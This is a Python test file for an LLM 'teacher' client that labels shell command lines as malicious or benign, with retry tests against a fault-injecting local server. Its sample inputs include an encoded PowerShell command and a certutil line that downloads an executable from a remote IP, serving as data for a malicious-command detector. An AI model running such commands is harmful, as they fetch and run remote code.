"""The OpenAI-compatible teacher against a real llama.cpp server (SmolLM2-135M) on loopback, and its
retries against a small fault-injecting server."""

import http.server
import json
import threading
import time

import numpy as np
import pytest

from smallworld.teacher import prompting
from smallworld.errors import TeacherError
from smallworld.tasks import load_task
from smallworld.teacher import ResponseCache
from smallworld.teacher.openai import OpenAITeacher

CMDS = ["ls -la /home", "powershell -enc SQBFAFgA", "git status", "certutil -urlcache -f http://1.2.3.4/a.exe a.exe"]


def _prompts(task):
    # few-shot demonstrations from the shipped example seed, so even a 135M model follows the answer pattern
    from smallworld import data as D
    from smallworld.demo import EXAMPLES

    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
    return prompting.build_prompts(task, CMDS, prompting.Demonstrations(task, seed, k=2, mode="fixed"))


@pytest.mark.parametrize("endpoint", ["completions", "chat"])
def test_probabilities_from_top_logprobs(llama_server, tmp_path, endpoint):
    task = load_task("cmdlines")
    t = OpenAITeacher(llama_server.url, endpoint=endpoint, concurrency=2, cache=ResponseCache(tmp_path / "c.sqlite"))
    if endpoint == "chat":
        t.min_mass = 0.05  # a 135M chat model puts little mass on a bare yes/no; read what there is
    P = prompting.ask(t, task, _prompts(task))
    usable = ~np.isnan(P).any(axis=1)
    assert usable.sum() >= 2, P  # SmolLM2 is a weak labeller, but it answers yes/no
    assert np.allclose(P[usable].sum(axis=1), 1.0)
    assert t.usage.calls == len(CMDS) and t.usage.prompt_tokens > 0
    assert t._logprobs_supported is True
    # the same questions again: all from the cache, nothing asked
    t2 = OpenAITeacher(llama_server.url, endpoint=endpoint, cache=ResponseCache(tmp_path / "c.sqlite"))
    t2.min_mass = t.min_mass
    P2 = prompting.ask(t2, task, _prompts(task))
    assert t2.usage.calls == 0 and t2.usage.cache_hits == len(CMDS)
    assert np.allclose(np.nan_to_num(P), np.nan_to_num(P2))


def test_generation_with_schema_falls_back_to_json_object(llama_server, tmp_path):
    t = OpenAITeacher(llama_server.url, cache=ResponseCache(tmp_path / "g.sqlite"), retries=1, backoff=0.01)
    schema = {"type": "object", "properties": {"items": {"type": "array", "items": {"type": "string"}, "maxItems": 3}},
              "required": ["items"]}
    text = t.generate("List three shell commands as JSON.\n", max_tokens=80, temperature=0.7, seed=1, schema=schema)
    obj = json.loads(text, strict=False)  # grammar-bound strings can hold raw newlines
    assert isinstance(obj["items"], list)


# -- a fault-injecting server ------------------------------------------------------------------------------
class Faults(http.server.BaseHTTPRequestHandler):
    script: list = []
    hits = 0

    def log_message(self, *a):
        pass

    def do_POST(self):
        n = int(self.headers.get("content-length", 0))
        self.rfile.read(n)
        type(self).hits += 1
        action = type(self).script.pop(0) if type(self).script else "ok"
        if action == "429":
            self.send_response(429)
            self.send_header("Retry-After", "0")
            self.end_headers()
        elif action == "500":
            self.send_response(500)
            self.end_headers()
        elif action == "slow":
            time.sleep(1.5)
            self._ok()
        elif action == "garbage":
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.end_headers()
            self.wfile.write(b"{not json")
        elif action == "nologprobs":
            self._send({"choices": [{"text": " yes"}]})
        elif action == "drop":
            self.connection.close()
        else:
            self._ok()

    def _ok(self):
        self._send({"choices": [{"text": " yes", "logprobs": {"top_logprobs": [{" yes": -0.1, " no": -2.4}]}}],
                    "usage": {"prompt_tokens": 10, "completion_tokens": 1}})

    def _send(self, body):
        b = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)


@pytest.fixture
def faulty():
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Faults)
    th = threading.Thread(target=srv.serve_forever, daemon=True)
    th.start()
    Faults.hits = 0
    yield f"http://127.0.0.1:{srv.server_address[1]}"
    srv.shutdown()


def _teacher(url, tmp_path, **kw):
    return OpenAITeacher(url, cache=ResponseCache(tmp_path / "f.sqlite"), backoff=0.01, timeout=1.0,
                         concurrency=1, **kw)


@pytest.mark.parametrize("fault", ["429", "500", "slow", "garbage", "drop"])
def test_retries_then_succeeds(faulty, tmp_path, fault):
    Faults.script = [fault, fault]
    t = _teacher(faulty, tmp_path, retries=3)
    res = t.classify(["Malicious:"], ["yes", "no"])
    assert res[0][0] == pytest.approx(np.exp(-0.1) / (np.exp(-0.1) + np.exp(-2.4)))
    assert t.usage.retries == 2 and t.usage.calls == 1 and Faults.hits == 3


def test_gives_up_with_a_clear_error(faulty, tmp_path):
    Faults.script = ["500"] * 10
    t = _teacher(faulty, tmp_path, retries=2)
    with pytest.raises(TeacherError, match="HTTP 500 .* gave up after 2 retries"):
        t.classify(["Malicious:"], ["yes", "no"])
    assert t.usage.failures == 1 and t.usage.calls == 0


def test_without_logprobs_it_samples(faulty, tmp_path):
    Faults.script = ["nologprobs"] * 6
    t = _teacher(faulty, tmp_path, samples=5)
    res = t.classify(["Malicious:"], ["yes", "no"])
    assert res[0][0] == pytest.approx((5 + 0.5) / (5 + 1.0))
    assert t._logprobs_supported is False and Faults.hits == 6


def test_prompt_ensemble_averages_its_members_and_reports_agreement(llama_server, tmp_path):
    """fixed+similar asks each member (all items of one member together) and averages; agreement is the share
    of members whose answer picks the averaged class; --no-rubric drops the rubric from the prompt."""
    from smallworld import data as D
    from smallworld.demo import EXAMPLES

    task = load_task("cmdlines")
    seed = D.read_rows(EXAMPLES / "cmdlines_seed.jsonl")
    rows = [{"id": f"r{i}", "text": c} for i, c in enumerate(CMDS)]
    t = OpenAITeacher(llama_server.url, concurrency=2, cache=ResponseCache(tmp_path / "c.sqlite"))
    ens = prompting.Demonstrations(task, seed, k=2, mode="fixed+similar")  # SmolLM2 needs demonstrations to answer
    P, A = prompting.ask_rows(t, task, ens, rows, "ensemble", progress=False, with_agreement=True)
    assert t.usage.calls == 2 * len(rows)
    members = [prompting.ask_rows(t, task, prompting.Demonstrations(task, seed, k=2, mode=m), rows, m, progress=False)
               for m in ("fixed", "similar")]
    assert t.usage.calls == 2 * len(rows)  # the members' answers are the ensemble's, from the cache
    ok = ~np.isnan(P).any(axis=1)
    assert ok.sum() >= 2
    assert np.allclose(P[ok], (members[0][ok] + members[1][ok]) / 2)
    expect = np.mean([m[ok].argmax(axis=1) == P[ok].argmax(axis=1) for m in members], axis=0)
    assert np.allclose(A[ok], expect) and set(np.unique(A[ok])) <= {0.5, 1.0}
    plain = prompting.build_prompts(task, CMDS[:1], prompting.Demonstrations(task, seed, k=2, mode="fixed", rubric=False))[0]
    full = prompting.build_prompts(task, CMDS[:1], prompting.Demonstrations(task, seed, k=2, mode="fixed"))[0]
    assert task.rubric.splitlines()[0] in full and task.rubric.splitlines()[0] not in plain
    with pytest.raises(ValueError, match="joined by"):
        prompting.Demonstrations(task, seed, mode="fixed+fixed")
